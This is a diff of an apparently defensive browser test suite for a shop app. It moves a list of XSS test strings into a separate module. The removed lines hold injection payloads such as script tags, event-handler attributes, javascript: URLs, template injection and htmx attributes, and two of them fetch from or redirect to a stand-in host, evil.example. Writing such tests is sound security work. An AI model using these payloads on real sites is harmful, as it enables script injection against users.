@@ -5,26 +5,13 @@ import Stripe from 'stripe'
 import type { Browser, BrowserContext, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { hasBrowser, openBrowser, scrollsSideways, signIn, viewOptions, watch } from './browser.ts'
+import { attacks } from './naughty.ts'
 import { pages } from './tour.ts'
 import { openWorld, password, type World } from './world.ts'
 
 const naughty = z
   .array(z.string())
   .parse(createRequire(import.meta.url)('big-list-of-naughty-strings/blns.json'))
-
-/** What would say that it ran; in names as well. */
-const attacks = [
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  "'><svg/onload=alert(1)>",
-  '</title><script>alert(1)</script>',
-  '</textarea><script>alert(1)</script>',
-  'javascript:alert(1)',
-  '{{constructor.constructor("alert(1)")()}}',
-  '<a href="javascript:alert(1)" hx-on:click="alert(1)">x</a>',
-  '<div hx-get="https://evil.example/" hx-trigger="load"></div>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-]
 
 const secret = 'whsec_shop_secret_0123456789'
 const q = (text: string) => JSON.stringify(text)
